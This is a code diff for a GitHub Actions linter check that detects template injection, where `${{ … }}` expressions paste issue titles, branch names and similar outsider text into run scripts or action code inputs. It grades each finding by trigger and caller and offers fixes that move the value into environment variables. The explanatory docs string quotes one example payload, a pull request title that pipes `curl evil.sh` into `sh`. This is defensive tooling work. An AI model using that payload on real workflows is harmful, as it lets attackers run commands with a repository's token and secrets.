@@ -1,16 +1,17 @@
 import type { Pair, Scalar } from 'yaml';
-import type { CheckMeta, Finding, Fix, Severity, Confidence, TextEdit } from '../../model';
-import type { Check, SourceFile } from '../types';
+import { SEVERITIES, type CheckMeta, type Finding, type Fix, type Severity, type Confidence, type TextEdit } from '../../model';
+import type { Check, RepoContext, SourceFile } from '../types';
 import { finding } from '../helpers';
-import { get, isAlias, isMap, isScalar, keyString, locationOf, pairs, rangeLocation, deref, type YamlFile } from '../../yaml/parse';
+import { isAlias, isMap, isScalar, keyString, locationOf, pairs, rangeLocation, deref, type YamlFile } from '../../yaml/parse';
 import { triggerNames, type JobModel, type StepModel, type WorkflowModel } from '../../yaml/workflow';
 import { parseUses } from '../../yaml/uses';
-import { normalizeExpression, type ContextRef } from '../../yaml/expressions';
+import { flowingRefs, literalValues, normalizeExpression, parseExpression, type ContextRef } from '../../yaml/expressions';
 import { scalarExpressions, scalarValue, type ScalarExpression } from '../../workflow/scalar-expressions';
-import { classifyContext, outsiderCanSupply, rank, type TaintVerdict, type TaintScope } from '../../workflow/taint';
+import { classifyContext, outsiderCanSupply, rank, textTaint, type TaintVerdict, type TaintScope } from '../../workflow/taint';
 import { jsStateAt, posixStateAt, pwshStateAt } from '../../workflow/shell-context';
 import { addMapEntries, type Entry } from '../../workflow/edit';
-import { SAME_REPO_GUARD } from '../../workflow/guards';
+import { outsiderReach } from '../../workflow/guards';
+import { codeInputsOf } from '../../workflow/code-inputs';
 
 export const meta: CheckMeta = {
   id: 'template-injection',
@@ -22,14 +23,14 @@ export const meta: CheckMeta = {
   essential: true,
   docs: {
     summary:
-      'A `run:` script (or an `actions/github-script` script) contains `${{ … }}` that expands text other people can choose — an issue or pull request title, a comment, a branch name, a commit message — straight into the code before it runs.',
+      'A `run:` script, an `actions/github-script` script, or another action input that the action runs as code (azure/cli `inlineScript`, mikefarah/yq `cmd`, …) contains `${{ … }}` that expands text into the code before it runs. High when outsiders choose that text (an issue or pull request title, a comment, a branch name, a commit message) under a trigger they can start; low "hygiene" for values only maintainers choose (manual-run inputs, variables, constants, values the workflow computes).',
     whyItMatters:
-      'GitHub replaces `${{ … }}` with its value before the shell sees the script, so the value becomes part of the program. A pull request titled `"; curl evil.sh | sh; echo "` then runs the attacker\'s commands inside your workflow, with its token and secrets. This is one of the most common ways GitHub Actions are taken over, and it needs nothing more than opening an issue or a pull request.',
+      'GitHub replaces `${{ … }}` with its value before the shell sees the script, so the value becomes part of the program. A pull request titled `"; curl evil.sh | sh; echo "` then runs the attacker\'s commands inside your workflow, with its token and secrets. This is one of the most common ways GitHub Actions are taken over, and it needs nothing more than opening an issue or a pull request. For values only maintainers choose, the same habit keeps an odd value from breaking the script, but nobody outside can use it.',
     howToFix:
-      'Pass the value through an environment variable instead: add `env: TITLE: ${{ github.event.issue.title }}` to the step and use `"$TITLE"` in the script (`process.env.TITLE` in github-script, `$env:TITLE` in PowerShell). The shell then treats it as data, never as code.',
+      'Pass the value through an environment variable instead: add `env: TITLE: ${{ github.event.issue.title }}` to the step and use `"$TITLE"` in the script (`process.env.TITLE` in github-script, `JSON.parse(process.env.DATA)` where the script used the value as a JavaScript value, `$env:TITLE` in PowerShell). The shell then treats it as data, never as code.',
     effort: 'minutes',
     fixSafety:
-      'Safe: the script receives exactly the same text, only as data. Steward quotes the variable for the step\'s shell and keeps existing quoting. Where an expression used to be unquoted and may hold a list of words (a step output, an input), splitting into words changes, so that fix is marked for review.',
+      'Safe when the script receives exactly the same text, only as data: inside quotes, here-documents, JavaScript strings and template literals, and where outsiders\' text was split or run (that is the hazard). Marked for review, with the reason, where the script may receive something different: an unquoted word that the shell dropped when empty or split at spaces, unquoted PowerShell, or a github-script value that `JSON.parse` gives back only when it is JSON. No fix for cmd (which expands %X% while it parses) or Python shells, or for other actions\' code inputs.',
   },
   references: {
     zizmor: 'template-injection',
@@ -42,16 +43,16 @@ export const meta: CheckMeta = {
 type Lang = 'posix' | 'pwsh' | 'js' | 'other';
 
 interface Sink {
-  kind: 'run' | 'script';
+  /** `run` for run steps, `input` for an action input the action runs as code (github-script `script` included). */
+  kind: 'run' | 'input';
   node: Scalar;
   step: StepModel;
   job?: JobModel;
   lang: Lang;
   steps: readonly StepModel[];
+  /** For input sinks: the input's name as written, the action, and how the action runs it. */
+  input?: { name: string; action: string; runs: string };
 }
-
-// Functions whose result is a boolean or a hash, whatever text goes in.
-const SAFE_CALLS = new Set(['contains', 'startswith', 'endswith', 'hashfiles', 'success', 'failure', 'always', 'cancelled']);
 
 function langOf(shell: string | undefined, job: JobModel | undefined, isAction: boolean, file: YamlFile): Lang {
   let s = shell?.trim().split(/\s+/)[0]?.toLowerCase();
@@ -64,18 +65,21 @@ function langOf(shell: string | undefined, job: JobModel | undefined, isAction: 
   s = s.replace(/^.*[\\/]/, '').replace(/\.exe$/, '');
   if (['bash', 'sh', 'zsh', 'dash', 'ksh', 'msys2'].includes(s)) return 'posix';
   if (['pwsh', 'powershell'].includes(s)) return 'pwsh';
+  // cmd expands %X% while it parses the line, so an environment variable is no safer there; Python
+  // and custom shells have no form Steward writes. Those steps get findings but no fix.
   return 'other';
 }
 
-function isGithubScript(step: StepModel): boolean {
-  if (!step.uses) return false;
+function actionName(step: StepModel): string | undefined {
+  if (!step.uses) return undefined;
   const u = parseUses(step.uses.value);
-  return u.kind === 'repo' && u.owner.toLowerCase() === 'actions' && u.repo.toLowerCase() === 'github-script';
+  return u.kind === 'repo' ? `${u.owner}/${u.repo}${u.path ? '/' + u.path : ''}`.toLowerCase() : undefined;
 }
 
 function sinks(file: SourceFile): Sink[] {
   const out: Sink[] = [];
   const isAction = !!file.action;
+  const y = file.yaml!;
   const groups: { job?: JobModel; steps: StepModel[] }[] = file.workflow
     ? file.workflow.jobs.map((job) => ({ job, steps: job.steps }))
     : file.action
@@ -83,10 +87,21 @@ function sinks(file: SourceFile): Sink[] {
       : [];
   for (const { job, steps } of groups) {
     for (const step of steps) {
-      if (step.run) out.push({ kind: 'run', node: step.run.node, step, job, lang: langOf(step.shell ?? job?.defaultShell, job, isAction, file.yaml!), steps });
-      else if (isGithubScript(step) && step.with) {
-        const script = get(step.with, 'script', file.yaml!);
-        if (isScalar(script)) out.push({ kind: 'script', node: script, step, job, lang: 'js', steps });
+      if (step.run) {
+        out.push({ kind: 'run', node: step.run.node, step, job, lang: langOf(step.shell ?? job?.defaultShell, job, isAction, y), steps });
+        continue;
+      }
+      const name = actionName(step);
+      if (!name || !step.with) continue;
+      const rows = codeInputsOf(name);
+      for (const p of pairs(step.with)) {
+        const key = keyString(p);
+        const row = key ? rows.find((r) => r.input === key.toLowerCase()) : undefined;
+        const v = deref(p.value, y);
+        if (!row || !key || !isScalar(v)) continue;
+        // Only github-script's `script` gets the env fix: Steward knows its runtime reads process.env.
+        const lang: Lang = row.action === 'actions/github-script' ? 'js' : 'other';
+        out.push({ kind: 'input', node: v, step, job, lang, steps, input: { name: key, action: row.action, runs: row.runs } });
       }
     }
   }
@@ -102,8 +117,9 @@ interface Hit {
 
 function worstRef(expr: ScalarExpression, scope: TaintScope): { verdict: TaintVerdict; ref: ContextRef } | undefined {
   let best: { verdict: TaintVerdict; ref: ContextRef } | undefined;
-  for (const ref of expr.refs) {
-    if (ref.compared || (ref.inCall && SAFE_CALLS.has(ref.inCall))) continue;
+  // Only references whose text can become the expression's value: `a == b`, `!a`, `contains(…)` and
+  // the left side of `a && b` give booleans (or a falsy value), never someone's text.
+  for (const ref of flowingRefs(expr.value.inner)) {
     const verdict = classifyContext(ref.path, scope, 0, ref.segments);
     if (verdict.taint === 'safe') continue;
     if (!best || rank(verdict.taint) > rank(best.verdict.taint)) best = { verdict, ref };
@@ -111,13 +127,23 @@ function worstRef(expr: ScalarExpression, scope: TaintScope): { verdict: TaintVe
   return best;
 }
 
-function grade(v: TaintVerdict, triggers: ReadonlySet<string> | undefined): { severity: Severity; confidence: Confidence; outsider: boolean } {
-  if (v.taint === 'attacker') {
-    const outsider = triggers ? outsiderCanSupply(v, triggers) : false;
-    return { severity: outsider ? 'high' : 'medium', confidence: 'high', outsider };
-  }
-  if (v.taint === 'input') return { severity: 'low', confidence: 'medium', outsider: false };
-  return { severity: 'low', confidence: 'low', outsider: false };
+/** A local workflow job that calls the file being checked, as seen from the caller. */
+export interface CallerSite {
+  /** The calling workflow's path. */
+  path: string;
+  job: string;
+  triggers: ReadonlySet<string>;
+  /** Taint of each `with:` value the caller passes, by input name (lower case). */
+  inputs: ReadonlyMap<string, TaintVerdict>;
+  /** The caller's `if:` (keeps outsiders out or not). */
+  condition?: string;
+}
+
+interface Grade {
+  severity: Severity;
+  confidence: Confidence;
+  /** The sentence after the colon: who controls the text and what follows. */
+  says: string;
 }
 
 const WHO: [string, string][] = [
@@ -133,26 +159,94 @@ const WHO: [string, string][] = [
   ['gollum', 'anyone who can edit the wiki'],
 ];
 
-function who(v: TaintVerdict, triggers: ReadonlySet<string> | undefined): string {
+function who(v: TaintVerdict, triggers: ReadonlySet<string>): string {
   const carried = v.carriedBy ?? [];
-  for (const [t, w] of WHO) if (triggers?.has(t) && (carried.length === 0 || carried.includes(t))) return w;
+  for (const [t, w] of WHO) if (triggers.has(t) && (carried.length === 0 || carried.includes(t))) return w;
   return 'people outside the project';
 }
 
-function message(h: Hit, outsider: boolean, triggers: ReadonlySet<string> | undefined): string {
-  const where = h.sink.kind === 'run' ? 'a `run:` script' : 'a github-script `script:`';
+/** Triggers of `triggers` that let outsiders start a run carrying this text, and that the conditions do not keep them out of. */
+function openTriggers(v: TaintVerdict, triggers: ReadonlySet<string>, conditions: readonly (string | undefined)[]): Set<string> {
+  const out = new Set<string>();
+  for (const t of triggers) {
+    if (!outsiderCanSupply(v, new Set([t]))) continue;
+    if (outsiderReach(conditions, t) === 'open') out.add(t);
+  }
+  return out;
+}
+
+function attackerGrade(v: TaintVerdict, triggers: ReadonlySet<string>, conditions: readonly (string | undefined)[], through?: string): Grade {
+  const open = openTriggers(v, triggers, conditions);
+  if (open.size) return { severity: 'high', confidence: 'high', says: `${who(v, open)} can make this step run commands of their choice${through ?? ''}` };
+  const kept = [...triggers].some((t) => outsiderCanSupply(v, new Set([t])));
+  return {
+    severity: 'medium',
+    confidence: 'high',
+    says: kept
+      ? `the job's or step's condition keeps outsiders' runs out, so only people with write access supply that text${through ?? ''} — still, it becomes part of the code before it runs`
+      : `that text is written by people who are not necessarily maintainers (for example in a merged pull request), and it becomes part of the code before it runs${through ?? ''}`,
+  };
+}
+
+const HYGIENE = 'passing it through `env:` is hygiene, not a fix for an open door';
+
+function grade(h: Hit, wf: WorkflowModel | undefined, conditions: readonly (string | undefined)[], callers: readonly CallerSite[] | undefined): Grade {
+  const v = h.verdict;
+  const own = wf ? triggerNames(wf) : new Set<string>();
+  const reusable = own.has('workflow_call');
+  if (v.taint === 'attacker') {
+    // In a reusable workflow the event is the caller's: its triggers decide who writes the text.
+    if (reusable && callers) {
+      const all = new Set([...own, ...callers.flatMap((c) => [...c.triggers])]);
+      const cond = [...conditions];
+      const viaCaller = callers.find((c) => openTriggers(v, c.triggers, [c.condition, ...cond]).size > 0);
+      if (viaCaller) return attackerGrade(v, viaCaller.triggers, [viaCaller.condition, ...cond], ` (through the call from \`${viaCaller.path}\`)`);
+      return attackerGrade(v, new Set([...all].filter((t) => t !== 'workflow_call')), cond);
+    }
+    if (reusable && own.size === 1) {
+      return { severity: 'medium', confidence: 'medium', says: 'who writes that text depends on the workflows that call this one (none in this repository), and it becomes part of the code before it runs' };
+    }
+    return attackerGrade(v, own, conditions);
+  }
+  if (v.taint === 'input') {
+    const declared = v.input?.declaredBy ?? [];
+    const name = v.input?.name ?? '*';
+    if (declared.includes('workflow_call') && callers && callers.length) {
+      let worst: Grade | undefined;
+      const constant: string[] = [];
+      for (const c of callers) {
+        const passed = c.inputs.get(name.toLowerCase());
+        if (!passed || passed.taint === 'safe') {
+          constant.push(c.path);
+          continue;
+        }
+        const g: Grade =
+          passed.taint === 'attacker'
+            ? attackerGrade(passed, c.triggers, [c.condition, ...conditions], ` (\`${c.path}\` passes ${passed.what} as \`${name}\`)`)
+            : { severity: 'low', confidence: 'medium', says: `\`${c.path}\` passes ${passed.what} as \`${name}\`, which outsiders do not choose; ${HYGIENE}` };
+        if (!worst || SEVERITY_RANK(g.severity) > SEVERITY_RANK(worst.severity)) worst = g;
+      }
+      if (worst) return worst;
+      return { severity: 'low', confidence: 'high', says: `every caller in this repository (${[...new Set(constant)].map((p) => `\`${p}\``).join(', ')}) passes a fixed value or none; ${HYGIENE}` };
+    }
+    if (declared.includes('workflow_call') && !declared.includes('workflow_dispatch')) {
+      return { severity: 'low', confidence: 'medium', says: `the workflows that call this one choose that text, and none in this repository does; ${HYGIENE} unless a caller passes outsiders' text` };
+    }
+    if (declared.includes('action')) {
+      return { severity: 'low', confidence: 'medium', says: `the workflows that use this action choose that text; ${HYGIENE} unless one of them passes outsiders' text (a title, a branch name)` };
+    }
+    return { severity: 'low', confidence: 'medium', says: `only people who can run the workflow by hand (write access) choose that text; ${HYGIENE}` };
+  }
+  return { severity: 'low', confidence: 'low', says: `nothing Steward can see lets outsiders choose that value; ${HYGIENE}` };
+}
+
+const SEVERITY_RANK = (s: Severity): number => SEVERITIES.indexOf(s);
+
+function message(h: Hit, g: Grade): string {
+  const where = h.sink.kind === 'run' ? 'a `run:` script' : `the \`${h.sink.input!.name}:\` input of ${h.sink.input!.action}, which ${h.sink.input!.runs}`;
   const shown = `\`\${{ ${h.expr.expr} }}\``;
   const via = h.verdict.via ? ` (through \`${h.verdict.via}\`)` : '';
-  switch (h.verdict.taint) {
-    case 'attacker':
-      return outsider
-        ? `${shown} pastes ${h.verdict.what}${via} into ${where}: ${who(h.verdict, triggers)} can make this step run commands of their choice`
-        : `${shown} pastes ${h.verdict.what}${via} into ${where}: that text is written by people who are not necessarily maintainers, and it becomes part of the code before it runs`;
-    case 'input':
-      return `${shown} pastes ${h.verdict.what}${via} into ${where}: whoever starts or calls the workflow chooses that text, and it becomes part of the code`;
-    default:
-      return `${shown} pastes ${h.verdict.what}${via} into ${where}; Steward cannot tell whether it can hold someone else's text, and passing it through \`env:\` is safer`;
-  }
+  return `${shown} pastes ${h.verdict.what}${via} into ${where}: ${g.says}`;
 }
 
 // --- The fix: move expressions into the step's env ---------------------------------------------
@@ -209,8 +303,21 @@ interface Replacement {
   start: number;
   end: number;
   text: string;
-  /** The expression used to be unquoted where the shell splits words. */
-  splits: boolean;
+  /** Why the script may now receive something different, in words a maintainer reads; absent when it receives the same. */
+  review?: string;
+}
+
+// Contexts whose value is always a number: JSON.parse gives the same number the script used to see.
+const NUMERIC = /(?:^|\.)(?:number|run_id|run_number|run_attempt|id|[a-z_]+_id|[a-z_]+_count)$/;
+
+/** Whether the expression's value is always JSON text (so `JSON.parse` gives the value the script saw as code). */
+function alwaysJson(h: Hit): boolean {
+  const ast = parseExpression(h.expr.value.inner);
+  if (!ast) return false;
+  if (ast.kind === 'call' && ast.name === 'tojson') return true;
+  const lits = literalValues(ast);
+  if (lits) return lits.every((l) => /^(?:true|false|null|-?\d+(?:\.\d+)?)$/.test(l));
+  return ast.kind === 'ref' && NUMERIC.test(ast.path) && ast.path.startsWith('github.');
 }
 
 function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | undefined {
@@ -218,18 +325,27 @@ function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | und
   if (!raw) return undefined;
   const value = scalarValue(h.sink.node);
   const at = h.expr.value.start;
+  const vEnd = h.expr.value.end;
+  const shown = `\`\${{ ${h.expr.expr} }}\``;
+  // Outsiders' text being split into words or run is the hazard itself; for other values a change in
+  // what the script receives needs a maintainer's look.
+  const attacker = h.verdict.taint === 'attacker';
   let start = raw.start;
   let end = raw.end;
   let text: string | undefined;
-  let splits = false;
+  let review: string | undefined;
   if (h.sink.lang === 'posix') {
     const st = posixStateAt(value, at);
     if (st === 'plain') {
       text = `"$${name}"`;
-      splits = true;
+      const ownWord = (at === 0 || /[\s;|&(]/.test(value[at - 1])) && (vEnd >= value.length || /[\s;|&)]/.test(value[vEnd]));
+      if (!attacker) {
+        review = ownWord
+          ? `${shown} stood unquoted as its own word, so the shell dropped it when empty and split it at spaces; \`"$${name}"\` is always exactly one argument — check that the value is never empty and never several words.`
+          : `${shown} was unquoted, so the shell split it at spaces; \`"$${name}"\` keeps it in one piece — check that the value never holds several words.`;
+      }
     } else if (st === 'double' || st === 'heredoc') text = `\${${name}}`;
     else if (st === 'single') {
-      const vEnd = h.expr.value.end;
       const quoteSafe = h.sink.node.type !== 'QUOTE_SINGLE';
       if (quoteSafe && value[at - 1] === "'" && value[vEnd] === "'" && file.text[raw.start - 1] === "'" && file.text[raw.end] === "'") {
         // '${{ x }}' alone: the single-quoted word becomes the double-quoted variable.
@@ -243,17 +359,21 @@ function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | und
     const st = pwshStateAt(value, at);
     if (st === 'plain') {
       text = `\${env:${name}}`;
-      splits = true;
+      if (!attacker) review = `${shown} was unquoted PowerShell, so it was parsed as code (several arguments when it holds spaces); \`\${env:${name}}\` is one string — check the command expects one value.`;
     } else if (st === 'double') text = `\${env:${name}}`;
     else if (st === 'comment') text = `$env:${name}`;
   } else if (h.sink.lang === 'js') {
     const st = jsStateAt(value, at);
     const ref = `process.env.${name}`;
-    if (st === 'code' || st === 'comment') text = ref;
-    else if (st === 'template') text = `\${${ref}}`;
+    if (st === 'comment') text = ref;
+    else if (st === 'code') {
+      // Used as a JavaScript value (`const data = ${{ … }}`): the text was read as a literal — a number,
+      // true/false, an object. JSON.parse gives that same value back; process.env alone would be a string.
+      text = `JSON.parse(${ref})`;
+      if (!alwaysJson(h)) review = `The script used ${shown} as a JavaScript value; \`JSON.parse(${ref})\` gives the same value only when it is JSON (a number, true/false, a quoted string, an object or list) — check that it always is.`;
+    } else if (st === 'template') text = `\${${ref}}`;
     else {
       const q = st === 'single' ? "'" : '"';
-      const vEnd = h.expr.value.end;
       const blockish = h.sink.node.type === 'BLOCK_LITERAL' || h.sink.node.type === 'BLOCK_FOLDED' || h.sink.node.type === 'PLAIN';
       if (blockish && value[at - 1] === q && value[vEnd] === q && file.text[raw.start - 1] === q && file.text[raw.end] === q) {
         // The string literal is the expression alone: the literal becomes the variable.
@@ -268,7 +388,7 @@ function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | und
   if (node.type === 'PLAIN' && node.range && start === node.range[0] && /^["'`{[&*!|>%@]/.test(text)) return undefined;
   const encoded = encodeForScalar(text, node);
   if (encoded === undefined) return undefined;
-  return { start, end, text: encoded, splits };
+  return { start, end, text: encoded, review };
 }
 
 function stepFix(file: SourceFile, hits: Hit[]): Fix | undefined {
@@ -277,7 +397,7 @@ function stepFix(file: SourceFile, hits: Hit[]): Fix | undefined {
   if (sink.lang === 'other') return undefined;
   // A script shared through an anchor would change in places whose step gets no env entry.
   if (sink.node.anchor || (sink.kind === 'run' && step.run && isAlias(step.run.pair.value))) return undefined;
-  if (sink.kind === 'script' && step.with && isAlias((step.with.items as Pair[]).find((p) => keyString(p) === 'script')?.value)) return undefined;
+  if (sink.kind === 'input' && step.with && isAlias((step.with.items as Pair[]).find((p) => keyString(p) === sink.input?.name)?.value)) return undefined;
   const stepEnv = envEntries(step.env ?? (step.envPair ? deref(step.envPair.value, y) : undefined), y);
   const jobEnv = envEntries(job?.env, y);
   const wfEnv = envEntries(file.workflow?.env, y);
@@ -320,14 +440,87 @@ function stepFix(file: SourceFile, hits: Hit[]): Fix | undefined {
     if (!add) return undefined;
     edits.push(...add);
   }
-  const splits = hits.some((h, i) => reps[i].splits && h.verdict.taint !== 'attacker');
+  const reasons = [...new Set(reps.map((r) => r.review).filter((r): r is string => !!r))];
   const names = [...new Set(chosen.values())];
   return {
     title: `Pass ${names.map((n) => `$${n}`).join(', ')} through the step's env instead of expanding ${hits.length === 1 ? 'the expression' : `${hits.length} expressions`} in the script`,
-    safe: !splits,
-    caveat: splits ? 'The value used to be unquoted, so the shell split it into words; it is now passed as one value — check the script does not rely on the splitting.' : undefined,
+    safe: reasons.length === 0,
+    caveat: reasons.length ? reasons.join(' ') : undefined,
     edits,
   };
+}
+
+function conditionText(node: unknown): string | undefined {
+  return isScalar(node) ? String(node.value ?? '') : undefined;
+}
+
+/** Findings for one file; `callers` are the local jobs that call it (reusable workflows), when known. */
+export function analyze(file: SourceFile, callers?: readonly CallerSite[]): Finding[] {
+  const y = file.yaml;
+  if (!y || (!file.workflow && !file.action)) return [];
+  const wf: WorkflowModel | undefined = file.workflow;
+  const out: Finding[] = [];
+  const byStep = new Map<StepModel, { hits: Hit[]; findings: Finding[] }>();
+  const seen = new Set<string>();
+  for (const sink of sinks(file)) {
+    const scope: TaintScope = { file: y, workflow: wf, job: sink.job, step: sink.step, steps: sink.steps };
+    const conditions = [conditionText(sink.job?.if?.node), conditionText(sink.step.if?.node)];
+    for (const expr of scalarExpressions(y, sink.node)) {
+      const w = worstRef(expr, scope);
+      if (!w) continue;
+      const hit: Hit = { sink, expr, verdict: w.verdict, ref: w.ref };
+      const entry = byStep.get(sink.step) ?? { hits: [], findings: [] };
+      entry.hits.push(hit);
+      byStep.set(sink.step, entry);
+      const location = expr.raw ? rangeLocation(y, expr.raw.start, expr.raw.end) : locationOf(y, sink.node);
+      // One finding per expression per line: the same text twice on a line is one problem (the fix
+      // still rewrites both).
+      const key = `${location?.start.line ?? -1}\u0000${expr.expr}`;
+      if (seen.has(key)) continue;
+      seen.add(key);
+      const g = grade(hit, wf, conditions, callers);
+      const f = finding(meta, { message: message(hit, g), severity: g.severity, confidence: g.confidence, location });
+      out.push(f);
+      entry.findings.push(f);
+    }
+  }
+  // One fix per step, shared by all of its findings: the env entries must be added together.
+  for (const { hits, findings } of byStep.values()) {
+    const fix = findings.length ? stepFix(file, hits) : undefined;
+    if (fix) for (const f of findings) f.fixes.push({ ...fix, edits: fix.edits.map((e) => ({ ...e })) });
+  }
+  return out;
+}
+
+function localTarget(uses: string): string | undefined {
+  const u = parseUses(uses);
+  return u.kind === 'local' ? u.path.replace(/^\.\//, '') : undefined;
+}
+
+/** The local jobs that call each reusable workflow, with the taint of what they pass. */
+export function callerSites(ctx: RepoContext): Map<string, CallerSite[]> {
+  const out = new Map<string, CallerSite[]>();
+  for (const file of ctx.byKind('workflow')) {
+    const wf = file.workflow;
+    if (!wf || !file.yaml) continue;
+    const triggers = triggerNames(wf);
+    for (const job of wf.jobs) {
+      const target = job.uses ? localTarget(job.uses.value) : undefined;
+      if (!target) continue;
+      const inputs = new Map<string, TaintVerdict>();
+      const scope: TaintScope = { file: file.yaml, workflow: wf, job, steps: [] };
+      for (const p of pairs(job.with)) {
+        const k = keyString(p);
+        const v = deref(p.value, file.yaml);
+        if (!k) continue;
+        inputs.set(k.toLowerCase(), isScalar(v) ? textTaint(String(v.value ?? ''), scope, 0) : { taint: 'unknown', what: `the value of \`${k}\`` });
+      }
+      const list = out.get(target) ?? [];
+      list.push({ path: file.path, job: job.id, triggers, inputs, condition: conditionText(job.if?.node) });
+      out.set(target, list);
+    }
+  }
+  return out;
 }
 
 export const check: Check = {
@@ -335,39 +528,22 @@ export const check: Check = {
   fileKinds: ['workflow', 'action'],
   notApplicableReason: 'No workflows or actions',
   checkFile(file) {
-    const y = file.yaml;
-    if (!y || (!file.workflow && !file.action)) return [];
-    const wf: WorkflowModel | undefined = file.workflow;
-    const triggers = wf ? triggerNames(wf) : undefined;
-    const out: Finding[] = [];
-    const byStep = new Map<StepModel, { hits: Hit[]; findings: Finding[] }>();
-    for (const sink of sinks(file)) {
-      const scope: TaintScope = { file: y, workflow: wf, job: sink.job, step: sink.step, steps: sink.steps };
-      for (const expr of scalarExpressions(y, sink.node)) {
-        const w = worstRef(expr, scope);
-        if (!w) continue;
-        const hit: Hit = { sink, expr, verdict: w.verdict, ref: w.ref };
-        const g = grade(w.verdict, wf && triggers && triggers.has('workflow_call') && triggers.size === 1 ? undefined : triggers);
-        // Forks kept out by the job's or step's condition: only people with push access supply the text.
-        const ifs = [sink.job?.if?.node, sink.step.if?.node].map((n) => (isScalar(n) ? String(n.value ?? '') : ''));
-        if (g.outsider && ifs.some((t) => SAME_REPO_GUARD.test(t))) {
-          g.outsider = false;
-          g.severity = 'medium';
-        }
-        const location = expr.raw ? rangeLocation(y, expr.raw.start, expr.raw.end) : locationOf(y, sink.node);
-        const f = finding(meta, { message: message(hit, g.outsider, triggers), severity: g.severity, confidence: g.confidence, location });
-        out.push(f);
-        const entry = byStep.get(sink.step) ?? { hits: [], findings: [] };
-        entry.hits.push(hit);
-        entry.findings.push(f);
-        byStep.set(sink.step, entry);
+    return analyze(file);
+  },
+  // Reusable workflows are graded again with their local callers: what a caller passes, and under
+  // which triggers, decides who writes the text. The per-file results stand for every other file.
+  checkRepo(ctx, fileFindings) {
+    const callers = callerSites(ctx);
+    const redo = new Set<string>();
+    const findings: Finding[] = [];
+    for (const file of ctx.byKind('workflow')) {
+      const sites = callers.get(file.path);
+      if (file.workflow && sites && triggerNames(file.workflow).has('workflow_call')) {
+        redo.add(file.path);
+        findings.push(...analyze(file, sites));
       }
     }
-    // One fix per step, shared by all of its findings: the env entries must be added together.
-    for (const { hits, findings } of byStep.values()) {
-      const fix = stepFix(file, hits);
-      if (fix) for (const f of findings) f.fixes.push({ ...fix, edits: fix.edits.map((e) => ({ ...e })) });
-    }
-    return out;
+    findings.unshift(...fileFindings.filter((f) => !f.location || !redo.has(f.location.file)));
+    return { status: findings.length ? 'fail' : 'pass', reason: '', findings };
   },
 };
